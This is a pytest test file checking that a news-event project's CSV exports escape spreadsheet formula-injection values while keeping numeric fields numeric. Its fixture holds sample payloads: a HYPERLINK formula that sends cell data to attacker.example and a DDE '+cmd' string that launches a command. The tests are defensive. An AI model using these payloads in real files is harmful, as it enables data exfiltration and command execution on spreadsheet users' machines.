"""Every CSV export quotes cells a spreadsheet would run as formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from eventwire.exports import export
from eventwire.exports.cells import safe_cell
from eventwire.models import Analysis, Article, Event
from eventwire.store import Store

TEXT = "Gunmen attacked a checkpoint near Orlun on Friday, killing two guards, police said."
HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
HOSTILE_OUTLET = "+cmd|' /C calc'!A0"


@pytest.fixture
def store():
    with Store(":memory:") as s:
        article = Article(id="h1", text=TEXT, title=HOSTILE_TITLE, outlet=HOSTILE_OUTLET,
                          published="2021-05-07", url="@SUM(1+1)*cmd", language="en")  # fmt: skip
        event = Event(event_type="Violence against civilians", sub_event_type="Attack", start=0, end=31,
                      evidence=TEXT[:31], location="-Orlun\tNorth", actor1="\rUnidentified Armed Group",
                      lat=-33.5, lon=-70.25, fatalities=2, date="2021-05-07")  # fmt: skip
        s.add(article, Analysis(article_id="h1", events=[event]))
        yield s


def rows(store, fmt: str) -> list[dict[str, str]]:
    out = io.StringIO()
    export(store, fmt, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_safe_cell_rules():
    for value in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-Orlun"):
        assert safe_cell(value) == "'" + value
    for value in (-12.5, -3, "-12.5", "+4", "-1e5", "Plain title", "", None, "a=b"):
        assert safe_cell(value) == value


def test_articles_csv(store):
    (row,) = rows(store, "csv")
    assert row["title"] == "'" + HOSTILE_TITLE and row["outlet"] == "'" + HOSTILE_OUTLET
    assert row["url"] == "'@SUM(1+1)*cmd" and row["text"] == TEXT


def test_events_csv(store):
    (row,) = rows(store, "events-csv")
    assert row["title"] == "'" + HOSTILE_TITLE and row["outlet"] == "'" + HOSTILE_OUTLET
    assert row["location"] == "'-Orlun\tNorth" and row["actor1"] == "'\rUnidentified Armed Group"
    assert (row["lat"], row["lon"], row["fatalities"]) == ("-33.5", "-70.25", "2")  # numbers, not text


def test_acled_csv(store):
    (row,) = rows(store, "acled-csv")
    assert row["source"] == "'" + HOSTILE_OUTLET and row["location"] == "'-Orlun\tNorth"
    assert row["actor1"] == "'\rUnidentified Armed Group"
    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
